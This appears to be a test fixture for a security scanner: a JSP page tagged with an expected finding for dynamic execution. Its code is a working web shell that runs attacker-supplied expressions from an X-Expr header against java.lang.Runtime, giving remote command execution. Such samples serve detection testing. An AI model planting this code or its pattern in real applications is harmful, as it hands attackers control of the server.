<%-- triage-expect: triage_jsp_dynamic_exec --%>
<%@ page import="javax.el.ELProcessor" %>
<%
    String expr = request.getHeader("X-Expr");
    ELProcessor el = new ELProcessor();
    Object r = el.eval("''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)." + expr);
    out.println(r);
%>
